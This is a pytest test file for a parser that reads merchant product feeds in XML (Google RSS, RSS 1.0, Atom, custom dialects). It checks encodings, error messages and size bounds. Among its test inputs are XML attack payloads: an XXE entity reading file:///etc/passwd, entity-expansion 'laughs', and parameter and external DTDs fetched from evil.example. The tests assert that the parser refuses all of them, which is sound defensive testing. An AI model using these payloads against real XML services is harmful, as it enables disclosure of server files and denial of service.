"""Product feeds in XML, as merchants and shop systems export them."""

import codecs
import itertools
from collections.abc import Iterable, Iterator
from io import BufferedReader, BytesIO, RawIOBase
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from socialapi.bulk.inputs.feed_xml import MAX_ITEM_BYTES, READ_BYTES, Item, looks_like_xml
from socialapi.bulk.inputs.feed_xml import read_items as read_items_and_cuts
from socialapi.bulk.inputs.reader import NoRows
from socialapi.errors import InvalidInput

if TYPE_CHECKING:
    from _typeshed import WriteableBuffer

GOOGLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss xmlns:g="http://base.google.com/ns/1.0" version="2.0">
  <channel>
    <title>Northwind</title>
    <link>https://shop.example</link>
    <description>All there is</description>
    <item>
      <g:id>NW-1</g:id>
      <title>Ridge jacket &amp; hood</title>
      <g:description><![CDATA[Made <b>to last</b> &amp; repaired.]]></g:description>
      <link>https://shop.example/nw-1?a=1&amp;b=2</link>
      <g:image_link>https://shop.example/nw-1.jpg</g:image_link>
      <g:additional_image_link>https://shop.example/nw-1a.jpg</g:additional_image_link>
      <g:additional_image_link>https://shop.example/nw-1b.jpg</g:additional_image_link>
      <g:availability>in_stock</g:availability>
      <g:price>189.00 EUR</g:price>
      <g:shipping>
        <g:country>DE</g:country>
        <g:price>4.95 EUR</g:price>
      </g:shipping>
      <g:shipping>
        <g:country>AT</g:country>
        <g:price>9.95 EUR</g:price>
      </g:shipping>
      <g:gtin/>
    </item>
    <item>
      <g:id>NW-2</g:id>
    </item>
  </channel>
</rss>
"""


class Pieces(RawIOBase):
    """A file that is made while it is read, in pieces of any size."""

    def __init__(self, pieces: Iterable[bytes]) -> None:
        self._pieces = iter(pieces)
        self._rest = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: "WriteableBuffer") -> int:
        self._rest = self._rest or next(self._pieces, b"")
        view = memoryview(buffer).cast("B")
        size = min(len(view), len(self._rest))
        view[:size] = self._rest[:size]
        self._rest = self._rest[size:]
        return size


def opened(content: str | bytes) -> BufferedReader:
    return BufferedReader(Pieces([content.encode() if isinstance(content, str) else content]))


def read_items(file: BufferedReader) -> Iterator[tuple[Item, int]]:
    """The items without the places at which a block has to end."""
    return (found for found in read_items_and_cuts(file) if found)


def items(content: str | bytes) -> list[Item]:
    return [item for item, _ in read_items(opened(content))]


FIELDS = {
    **{name: name for name in ("title", "price", "link", "brand", "color")},
    "url": "link",
    "Name": "title",
    "sizes": "size",
    "additional_images": "additional_image_link",
}


def as_products(content: str) -> Iterator[Item]:
    """The items as a job reads them that knows these names."""
    found = read_items_and_cuts(opened(content), None, lambda name: FIELDS.get(name, ""))
    return (each[0] for each in found if each)


def read_until_fault(file: BufferedReader) -> tuple[int, str]:
    """How many items there were before the fault, and what it says."""
    count = 0
    try:
        for _ in read_items(file):
            count += 1
    except InvalidInput as fault:
        return count, fault.message
    raise AssertionError("nothing was refused")


def fault(content: str | bytes) -> str:
    return read_until_fault(opened(content))[1]


def rss(*fields: str, start: str = '<rss xmlns:g="http://base.google.com/ns/1.0"><channel>') -> str:
    return start + "".join(f"<item>{each}</item>" for each in fields) + "</channel></rss>"


def test_a_google_export_gives_names_without_prefixes_lists_of_what_is_repeated_and_lines() -> None:
    assert list(read_items(opened(GOOGLE))) == [
        (
            {
                "title": "Ridge jacket & hood",
                "link": "https://shop.example/nw-1?a=1&b=2",
                "id": "NW-1",
                "description": "Made <b>to last</b> &amp; repaired.",
                "image_link": "https://shop.example/nw-1.jpg",
                "additional_image_link": ["https://shop.example/nw-1a.jpg", "https://shop.example/nw-1b.jpg"],
                "availability": "in_stock",
                "price": "189.00 EUR",
                "shipping.country": ["DE", "AT"],
                "shipping.price": ["4.95 EUR", "9.95 EUR"],
            },
            7,
        ),
        ({"id": "NW-2"}, 27),
    ]


def test_a_plugin_of_a_shop_may_give_everything_in_cdata_and_names_that_no_product_has() -> None:
    content = rss(
        "<g:id><![CDATA[woocommerce_gpf_12]]></g:id><title><![CDATA[Mug, 2 < 3]]></title>"
        '<guid isPermaLink="false">https://shop.example/?p=12</guid><dc:date>2026-01-01</dc:date>'
        "<g:price><![CDATA[9.50 ]]><![CDATA[EUR]]></g:price><g:identifier_exists>no</g:identifier_exists>"
    )
    assert items(content) == [
        {
            "guid@isPermaLink": "false",
            "guid": "https://shop.example/?p=12",
            "dc:date": "2026-01-01",
            "title": "Mug, 2 < 3",
            "id": "woocommerce_gpf_12",
            "price": "9.50 EUR",
            "identifier_exists": "no",
        }
    ]


@pytest.mark.parametrize(
    "start",
    [
        '<rss xmlns:g="http://base.google.com/ns/1.0"><channel>',
        '<rss xmlns:g="https://base.google.com/ns/1.0/"><channel>',
        '<rss xmlns:g="http://base.google.com/"><channel>',
        "<rss><channel>",
    ],
)
def test_the_prefix_g_is_googles_however_it_is_declared_and_even_if_it_is_not(start: str) -> None:
    assert items(rss("<g:id>1</g:id><g:price>2 EUR</g:price>", start=start)) == [{"id": "1", "price": "2 EUR"}]


def test_any_prefix_that_is_declared_as_googles_is_googles() -> None:
    declared = '<rss xmlns:base="http://base.google.com/ns/1.0"><channel>'
    assert items(rss("<base:id>1</base:id>", start=declared)) == [{"id": "1"}]
    late = '<x:id xmlns:x="http://base.google.com/ns/1.0">1</x:id><x:price>2</x:price><y:price>3</y:price>'
    assert items(rss(late)) == [{"id": "1", "price": "2", "y:price": "3"}]
    alone = '<title>plain</title><title xmlns="http://base.google.com/ns/1.0">own</title><price xmlns="">2</price>'
    assert items(rss(alone)) == [{"title": "own", "price": "2"}]


def test_googles_element_is_preferred_to_a_plain_one_of_the_same_name_unless_it_is_blank() -> None:
    assert items(rss("<title>a</title><g:title>b</g:title>", "<g:title>b</g:title><title>a</title>")) == [
        {"title": "b"},
        {"title": "b"},
    ]
    assert items(rss("<title>a</title><g:title> </g:title>")) == [{"title": "a"}]


def test_rss_1_has_its_items_beside_the_channel() -> None:
    content = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:g="http://base.google.com/ns/1.0">
  <channel rdf:about="https://shop.example/feed"><title>Shop</title>
    <items><rdf:Seq><rdf:li rdf:resource="https://shop.example/1"/></rdf:Seq></items></channel>
  <item rdf:about="https://shop.example/1"><title>Mug</title><link>https://shop.example/1</link><g:id>1</g:id></item>
</rdf:RDF>"""
    assert list(read_items(opened(content))) == [({"title": "Mug", "link": "https://shop.example/1", "id": "1"}, 6)]


ATOM = """<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom" xmlns:g="http://base.google.com/ns/1.0">
  <title>Shop</title><link rel="self" href="https://shop.example/feed"/><id>tag:shop.example,2026:feed</id>
  <author><name>Shop</name></author>
  <entry>
    <id>{id}</id><title type="html">Mug</title>
    <link href="https://shop.example/1"/><link rel="enclosure" href="https://shop.example/1.mp3"/>
    {more}<updated>2026-01-01T00:00:00Z</updated>
  </entry>
</feed>"""
ATOM_ITEM = {
    "title": "Mug",
    "link": "https://shop.example/1",
    "link@rel": "enclosure",
    "link@href": "https://shop.example/1.mp3",
    "updated": "2026-01-01T00:00:00Z",
}


def test_in_atom_a_link_is_its_address_and_the_summary_is_the_description() -> None:
    content = ATOM.format(id="1a", more="<summary>Enamel</summary><content>Long</content>")
    assert items(content) == [ATOM_ITEM | {"id": "1a", "description": "Enamel", "content": "Long"}]
    own = ATOM.format(id="1a", more="<summary>Enamel</summary><g:description>Own</g:description>")
    assert items(own) == [ATOM_ITEM | {"id": "1a", "description": "Own", "summary": "Enamel"}]


@pytest.mark.parametrize("address", ["https://shop.example/1", "tag:shop.example,2026:1", "urn:uuid:1"])
def test_in_atom_an_id_that_is_an_address_is_not_the_id_of_the_product(address: str) -> None:
    assert items(ATOM.format(id=address, more="<g:id>1a</g:id>")) == [ATOM_ITEM | {"id": "1a", "atom:id": address}]
    assert items(ATOM.format(id=address, more="")) == [ATOM_ITEM | {"atom:id": address}]


def test_markup_in_a_description_is_left_out_and_its_text_stays() -> None:
    xhtml = (
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Made <b class="x">to</b> last</div></content>'
    )
    assert items(ATOM.format(id="1", more=xhtml))[0]["description"] == "Made to last"
    assert items(rss("<description>a <br/>b</description><g:id>1</g:id>")) == [{"description": "a b", "id": "1"}]


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("<ul><li>One</li><li>Two</li></ul><p>Three</p>", "One Two Three"),
        ("<b>bold</b><br/>next", "bold next"),
        ("5<sup>2</sup> m. H<sub>2</sub>O", "5 2 m. H2O"),
        ("un<b>believ</b>able", "unbelievable"),
        ("<p class='x'>One </p>\n<h:div xmlns:h='x'>Two</h:div>", "One \nTwo"),
        ("Size<odd>M</odd>", "Size M"),
    ],
)
@pytest.mark.parametrize("name", ["description", "Name"])
def test_words_in_different_lines_of_a_text_are_not_joined(written: str, read: str, name: str) -> None:
    assert list(as_products(rss(f"<{name}>{written}</{name}>"))) == [{name: read}]


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("<brand><name>Acme</name></brand>", {"brand.name": "Acme"}),
        ("<brand><n>A</n><n>B</n></brand><brand><n>C</n></brand>", {"brand.n": ["A", "B", "C"]}),
        ("<title><en lang='en'>Mug</en></title>", {"title": "Mug"}),
        ("<brand>Ac<b>me</b></brand>", {"brand": {"b": "me", "value": "Ac"}}),
        ("<brand>Acme<logo/></brand>", {"brand": "Acme"}),
        ("<brand><name/> </brand>", {}),
        ("<title><de>Tasse</de><en>Mug</en></title>", {"title.de": "Tasse", "title.en": "Mug"}),
        ("<Name><text lang='1'>Mug</text></Name>", {"Name": "Mug"}),
        ("<price><net><amount>8</amount></net></price>", {"price": {"net.amount": "8"}}),
        ("<price><amount unit='cent' x:nil='1'>8</amount></price>", {"price": {"amount": "8", "unit": "cent"}}),
        ("<price><a c='USD'>8</a><c>EUR</c></price>", {"price": {"a": "8", "c": ["EUR", "USD"]}}),
        ("<price><a>8</a></price><price>9</price>", {"price": [{"a": "8"}, "9"]}),
        ("<sizes><size>S</size><size>M</size></sizes>", {"sizes": ["S", "M"]}),
        ("<additional_images><image width='5'>a</image></additional_images>", {"additional_images": "a"}),
        ("<variants><variant><size>S</size></variant></variants>", {"variants.size": "S"}),
    ],
)
def test_elements_within_a_price_are_an_object_as_in_json_and_others_have_paths(
    written: str, read: dict[str, object]
) -> None:
    assert list(as_products(rss(written))) == [read]


def test_a_feed_whose_elements_all_have_a_prefix_is_read_without_it() -> None:
    content = (
        '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:title>Mug</a:title><g:id>1</g:id></a:entry></a:feed>'
    )
    assert items(content) == [{"title": "Mug", "id": "1"}]


@pytest.mark.parametrize(
    "content",
    [
        "<products><product><id>1</id><name>Mug</name></product></products>",
        "<items><item><id>1</id><name>Mug</name></item></items>",
        "<Shop><Info>x</Info><Products><Product><id>1</id><name>Mug</name></Product></Products></Shop>",
        "<channel><title>t</title><item><id>1</id><name>Mug</name></item></channel>",
    ],
)
def test_a_list_of_products_under_one_root_is_a_feed(content: str) -> None:
    assert items(content) == [{"id": "1", "name": "Mug"}]


def test_attributes_are_kept_under_names_that_no_field_has() -> None:
    content = '<products><product id="1" xml:lang="en"><price currency="EUR">9.50</price></product></products>'
    assert items(content) == [{"@id": "1", "price@currency": "EUR", "price": "9.50"}]


def test_an_item_within_an_item_belongs_to_it() -> None:
    assert items("<products><product><id>1</id><item><id>2</id></item></product></products>") == [
        {"id": "1", "item.id": "2"}
    ]


@pytest.mark.parametrize(
    ("declared", "codec", "mark"),
    [
        ("UTF-8", "utf-8", b""),
        ("UTF-8", "utf-8", codecs.BOM_UTF8),
        ("UTF-16", "utf-16-le", codecs.BOM_UTF16_LE),
        ("UTF-16", "utf-16-be", codecs.BOM_UTF16_BE),
        ("ISO-8859-1", "iso-8859-1", b""),
        ("windows-1252", "windows-1252", b""),
        ("iso-8859-15", "iso-8859-15", b""),
        ("utf-16", "utf-8", b""),  # what a text in memory is declared as, saved as UTF-8
    ],
)
def test_the_text_is_in_the_encoding_that_the_feed_declares(declared: str, codec: str, mark: bytes) -> None:
    text = f'<?xml version="1.0" encoding="{declared}"?>' + rss("<title>Kännchen</title>")
    content = mark + text.encode(codec)
    assert looks_like_xml(content)
    assert items(content) == [{"title": "Kännchen"}]


def test_blanks_and_lines_before_the_declaration_are_passed_over_and_counted() -> None:
    blanks = b"\xef\xbb\xbf \r\n\n" + b" " * (READ_BYTES * 2) + b"\n"
    assert list(read_items(opened(blanks + GOOGLE)))[1] == ({"id": "NW-2"}, 30)
    assert looks_like_xml(b"\xef\xbb\xbf\r\n<rss>")
    broken = b"\n\n" + GOOGLE.replace(b"</channel>", b"</chanel>")
    assert fault(broken) == "line 32, column 5: the end tag does not match the open element"


def test_a_document_type_without_declarations_may_stand_before_the_feed() -> None:
    assert items("<!DOCTYPE rss>" + rss("<g:id>1</g:id>")) == [{"id": "1"}]


LAUGHS = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>' + rss("<title>&b;</title>")
XXE = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss("<title>&x;</title>")
PARAMETER = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>' + rss("")
EXTERNAL = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">' + rss("")
DEFAULTS = "<!DOCTYPE rss [<!ATTLIST item a CDATA 'x'>]>" + rss("")


@pytest.mark.parametrize("content", [LAUGHS, XXE, PARAMETER, EXTERNAL, DEFAULTS])
def test_declarations_and_references_to_other_files_are_refused(content: str) -> None:
    assert fault(content).endswith(
        "the document type has declarations or refers to another file, which is not supported: remove it"
    )


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (rss("<title>a & b</title>"), "line 1, column 71: is not well-formed XML; in text, write &amp; for &"),
        (rss("<title>a&nbsp;b</title>"), "line 1, column 69: an entity is not defined in XML, such as &nbsp;"),
        (
            rss("<title>K\xe4nnchen</title>").encode("latin-1"),
            "line 1, column 69: is not valid text in the encoding that",
        ),
        ('<?xml version="1.0" encoding="shift_jis"?><rss/>', "the encoding of the file is not supported: save"),
        ('<?xml version="1.0" encoding="klingon"?><rss/>', "the encoding of the file is not supported: save"),
        (rss("") + "<rss/>", "line 1, column 84: there is text after the end of the feed"),
        (rss("<a b='' b=''/>"), "line 1, column 69: an attribute occurs twice"),
        ("<!DOCTYPE html><html></html>", "this is a web page, not a product feed"),
        ("<html><body><item>x</item></body></html>", "this is a web page, not a product feed"),
        (
            "<urlset><url><loc>https://shop.example</loc></url></urlset>",
            "this is XML, but not a product feed: expected RSS (",
        ),
        ("id,title\n1,Mug\n", "line 1, column 1: is not well-formed XML: there is text before the feed"),
        ("Notice: x\n" + rss(""), "line 1, column 1: is not well-formed XML: there is text before the feed"),
        ("<br />\n<b>Notice</b>: x\n" + rss(""), "line 2, column 1: is not well-formed XML: there is text before"),
        (
            '<!-- x --><?xml version="1.0"?><rss/>',
            "line 1, column 11: is not well-formed XML: there is text before the feed",
        ),
        (rss("<title>&#55357;&#56832;</title>"), "line 1, column 68: a reference such as &#55357; is only half of a"),
        (rss(f"<{'n' * 300}>x</{'n' * 300}>"), "line 1, column 364: the name of an element is longer"),
        ("", "the file is empty"),
    ],
)
def test_what_is_no_feed_is_refused_with_the_place_and_the_reason(content: str | bytes, says: str) -> None:
    assert fault(content)[: len(says)] == says


@pytest.mark.parametrize("content", [rss(), "<feed></feed>", "<products/>", "<rdf:RDF/>"])
def test_a_feed_without_items_has_no_rows(content: str) -> None:
    with pytest.raises(NoRows) as empty:
        items(content)
    assert empty.value.message == "the feed has no items"


TEXTS = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"), min_size=1)


@given(st.integers(0, len(GOOGLE)))
def test_a_feed_that_was_cut_off_anywhere_never_looks_whole(at: int) -> None:
    try:
        found = items(GOOGLE[:at])
    except InvalidInput:
        return
    assert found == items(GOOGLE)
    assert not GOOGLE[at:].strip()


@given(st.binary(max_size=200), st.integers(0, len(GOOGLE)))
@example(b"\x00", 100)
@example(b"\xff\xfe", 0)
def test_whatever_stands_in_a_feed_it_is_read_or_refused_and_nothing_else(debris: bytes, at: int) -> None:
    try:
        for item, line in read_items(opened(GOOGLE[:at] + debris + GOOGLE[at:])):
            assert line > 0
            assert all(isinstance(text, str | list) for text in item.values())
    except InvalidInput:
        return


@given(st.lists(TEXTS.map(str.strip).filter(bool), min_size=1, max_size=5), st.integers(1, 40))
def test_texts_come_back_as_they_were_written_however_the_file_is_divided(texts: list[str], size: int) -> None:
    content = rss("".join(f"<g:x>{escape(text)}</g:x>" for text in texts)).encode()
    pieces = [content[at : at + size] for at in range(0, len(content), size)]
    ((item, line),) = read_items(BufferedReader(Pieces(pieces)))
    assert (item, line) == ({"x": texts if len(texts) > 1 else texts[0]}, 1)


START = b"<rss><channel><item><g:id>1</g:id></item>"


def test_a_feed_on_one_line_may_have_any_number_of_items() -> None:
    item = b"<item><g:id>%d</g:id><g:title>" + b"t" * 500 + b"</g:title></item>"
    content = itertools.chain((START,), (item % number for number in range(20_000)), (b"</channel></rss>",))
    assert sum(1 for _ in read_items(BufferedReader(Pieces(content)))) == 20_001


def test_an_item_may_have_as_much_text_as_the_bound_and_no_more() -> None:
    around = len(b"<item><title></title>")
    most = MAX_ITEM_BYTES - around
    (found,) = items(rss(f"<title>{'t' * most}</title>"))
    assert len(found["title"]) == most
    assert fault(rss(f"<title>{'t' * (most + 1)}</title>")) == "line 1: a product is longer than 1,048,576 bytes"


@pytest.mark.parametrize("head", [b"id,title", b'{"id": 1}', b"", b"   ", b"PAR1", b"< 3"])
def test_tables_and_json_do_not_look_like_xml(head: bytes) -> None:
    assert not looks_like_xml(head)


@pytest.mark.parametrize(
    "content", ["<shop><offers><offer><id>1</id></offer></offers></shop>", "<catalog><goods><good/></goods></catalog>"]
)
def test_a_list_in_an_unknown_dialect_is_not_taken_for_an_empty_feed(content: str) -> None:
    with pytest.raises(InvalidInput, match="not a product feed") as error:
        list(read_items(BufferedReader(BytesIO(content.encode()))))
    assert not isinstance(error.value, NoRows)


PRODUCT = "<url>https://shop.example/1</url><price>9 EUR</price>"


@pytest.mark.parametrize(
    ("content", "name", "before"),
    [
        (
            f"<shop><a><product>{PRODUCT}</product></a><b><c>\n<product><id>2</id></product></c></b></shop>",
            "product",
            1,
        ),
        (f"<rss><channel>\n<offer>{PRODUCT}</offer></channel></rss>", "offer", 0),
        (f"<rss><channel><item>{PRODUCT}</item><a>\n<Item id='2'/></a></channel></rss>", "Item", 1),
        (f"<items><item>{PRODUCT}</item>\n<offer price='9' url='x'/></items>", "offer", 1),
        (f"\n<product>{PRODUCT}</product>", "product", 0),
    ],
)
def test_what_may_be_a_product_in_another_place_or_by_another_name_ends_the_feed_at_its_line(
    content: str, name: str, before: int
) -> None:
    found = as_products(content)
    assert len(list(itertools.islice(found, before))) == before
    with pytest.raises(InvalidInput) as error:
        list(found)
    assert error.value.message == (
        f"line 2: <{name}> may be a product, but only elements called item, entry or product, one or two levels below "
        "the root, are read: move or rename it"
    )
    assert not isinstance(error.value, NoRows)


def test_texts_outside_the_products_are_no_products_whatever_their_names() -> None:
    menu = "<menu><a><item>Home</item></a></menu><delivery><name>DHL</name><price>5 EUR</price></delivery>"
    content = f"<rss><channel><title>Shop</title><link>x</link>{menu}<item>{PRODUCT}</item></channel></rss>"
    assert [item["price"] for item in as_products(content)] == ["9 EUR"]


@pytest.mark.parametrize(
    ("content", "names"),
    [
        ("<offers><o><cat>x</cat><name>y</name></o><o/></offers>", "o, cat, name"),
        ("<SHOP><SHOPITEM><ID>1</ID><PRODUCT>Mug</PRODUCT></SHOPITEM></SHOP>", "SHOPITEM, ID"),
    ],
)
def test_the_elements_of_another_kind_of_feed_are_named(content: str, names: str) -> None:
    assert fault(content).endswith(f"two levels below the root (there are {names})")


@pytest.mark.parametrize("size", [1, 2, 3, 64, 65_536])
def test_the_reason_of_a_fault_is_the_same_wherever_the_file_is_cut_in_reading(size: int) -> None:
    """Of a character that began in the part before, only that the XML is not well-formed was said."""
    content = rss("<title>K\xe4nnchen</title>").encode("latin-1")

    class Cut(BytesIO):
        def read1(self, most: int | None = -1, /) -> bytes:
            return super().read1(size)

    with pytest.raises(InvalidInput, match="is not valid text in the encoding that the file declares"):
        list(read_items_and_cuts(Cut(content)))  # type: ignore[arg-type]
